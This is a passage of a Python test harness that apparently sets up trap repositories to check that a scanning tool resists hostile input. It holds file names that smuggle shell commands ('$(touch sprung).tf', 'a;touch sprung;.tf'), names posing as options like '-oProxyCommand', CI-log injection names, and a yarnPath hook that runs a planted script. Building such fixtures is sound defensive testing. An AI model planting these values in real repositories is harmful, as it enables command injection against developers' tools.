            ".yarnrc.yml": "yarnPath: ./yarn.js\n",
            ".nvmrc": "{outside}\n",
            "yarn.js": "require('fs').writeFileSync('{fired}', '')\n",
        },
        programs=("shell", "node", "npm", "node_modules/.bin/semgrep"),
    ),
)

NAMES = (
    Trap(
        "names like options",
        {
            "-rf": "x",
            "--config=x": "x",
            "-e.tf": "# x\n",
            "--config=r.py": BOT,
            "@file": "x",
            "-": "x",
            "--": "x",
            "-oProxyCommand=x.tf": "# x\n",
            "--upload-pack=x.py": "x",
        },
    ),
    Trap(
        "names like commands",
        {
            "$(touch sprung).tf": "# x\n",
            "`touch sprung`.py": BOT,
            "a;touch sprung;.tf": "# x\n",
            "|touch sprung.py": BOT,
            "a b'c\"d.tf": "# x\n",
            "%s%n.tf": "# x\n",
            "{fired}.tf": "# x\n",
            "~/x.tf": "# x\n",
            "*.tf": "# x\n",
            "http:/x.tf": "# x\n",
        },
    ),
    Trap(
        "names of two lines",
        {
            "a\n::error file=b::c.tf": "# x\n",
            "x\nDockerfile": "FROM x\n",
            "main.tf\n": "x",
            "\rb.tf": "# x\n",
            ":(top)x.tf": "# x\n",
            ":!main.tf": "# x\n",
        },
    ),
    Trap("names in no encoding", arrange=odd_bytes),
)

NO_FILES = (
    Trap("links that lead out", arrange=links_out, hides=True),
    Trap("links to processes", arrange=links_to_processes, hides=True),
    Trap("links in circles", arrange=links_in_circles, hides=True),
    Trap("pipes", arrange=pipes, hides=True),
    Trap("sockets", arrange=sockets, hides=True),
    Trap("devices", arrange=devices, hides=os.geteuid() == 0),
)

TRAPS = (
    *OTHER_TOOLS,
    *VARIABLES,
    *PYTHON,
    *AT_START,
    *PROGRAMS,
    *GIT,
    *CONTENTS,
    *NAMES,
    *NO_FILES,
)


def spring(trap: Trap, root: Path, setting: Setting) -> None:
    """Sets a trap up in a repository that holds `FILES`: what it commits, on top of them."""
    for name, text in trap.files.items():
        path = root / setting.fill(name).lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(setting.fill(text), newline="")
    for name, text in trap.added.items():
        first, _, rest = (root / name).read_text().partition("\n")
        (root / name).write_text(f"{first}{text}\n{rest}")
    for name in trap.programs:
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if not path.is_dir():  # another trap's package
            path.write_text(setting.fill(SH))
            path.chmod(0o755)


def commit(root: Path) -> None:
    """What a pull request brings."""
    git(root, "add", "-A", "-f", ".")
    git(root, "commit", "-q", "--allow-empty", "-m", "change")


def arm(trap: Trap, root: Path, setting: Setting) -> None:
    """What is in no commit: settings of git, and what has to be arranged by hand."""
    for key, value in trap.settings.items():
        git(root, "config", key, setting.fill(value))
    if trap.arrange:
        trap.arrange(root, setting)
